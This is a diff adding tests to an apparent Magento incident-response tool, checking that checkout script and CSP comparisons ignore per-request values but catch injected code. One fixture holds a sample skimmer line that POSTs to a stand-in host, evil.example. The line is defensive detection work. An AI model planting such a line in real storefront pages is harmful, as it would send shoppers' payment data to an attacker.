@@ -10,6 +10,7 @@ from magento_ir.detect.page_integrity import (
     PageInventory,
     PageScript,
     _policy,
+    _shape,
     compare,
     latest_baseline,
     open_checkout,
@@ -168,3 +169,31 @@ def test_checkout_in_chromium_finds_a_weakened_csp(
         sandbox.state.set_config(path, "1")
     found = compare(baseline, take_inventory(browser, checkout))
     assert [(f.rule, f.title, f.severity) for f in found] == [("page-csp-weakened", title, "high")]
+
+
+def test_inline_scripts_are_compared_without_their_per_request_values() -> None:
+    """Magento renders a form key, masked quote ids, times and random element names into its
+    inline scripts on every request: the same script; new code in it is a new script."""
+    config = (
+        'window.checkoutConfig = {"formKey":"%s","quoteData":{"entity_id":"%s",'
+        '"created_at":"2026-12-06 08:49:%s"}}; var elem%sArray = [];'
+    )
+    first = config % ("xzxh3iSlYvcCUVYd", "bGziJBJIA8qP8GfFTXt607TqteozrYbM", "17", "9HgL7fTy")
+    second = config % ("abcdEFGHijklMNOP", "BmNIZ1W7NWdf9mBWBHMZlV95zZzffVfz", "27", "p0LIBzDu")
+    skimmed = second + 'fetch("https://evil.example/c", {method: "POST"});'
+    assert _shape(first) == _shape(second)
+    assert _shape(skimmed) != _shape(second)
+    before = page(PageScript(None, None, "a" * 64, _shape(first)))
+    after = page(PageScript(None, None, "c" * 64, _shape(second)))
+    assert compare(before, after) == []
+    injected = page(PageScript(None, None, "d" * 64, _shape(skimmed)))
+    assert [f.rule for f in compare(before, injected)] == [
+        "page-script-added",
+        "page-script-removed",
+    ]
+
+
+def test_a_new_csp_nonce_is_not_a_weaker_policy() -> None:
+    """Magento_Csp sends a fresh nonce on each checkout response."""
+    policy = "script-src 'self' 'nonce-%s'; default-src 'self'"
+    assert compare(page(csp=policy % "YzhxYm16"), page(csp=policy % "dDRqdzNk")) == []
